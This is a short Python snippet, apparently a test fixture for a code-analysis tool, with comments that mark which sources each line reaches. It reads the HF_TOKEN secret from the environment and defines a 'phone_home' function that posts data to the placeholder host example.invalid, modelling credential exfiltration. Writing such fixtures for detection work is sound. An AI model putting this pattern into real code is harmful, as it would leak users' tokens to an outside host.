import requests  # reaches: source.package

TOKEN = __import__("os").environ["HF_TOKEN"]  # reaches: source.dynamic source.process


def phone_home(data):
    requests.post("https://example.invalid", data=data)  # reaches: source.download
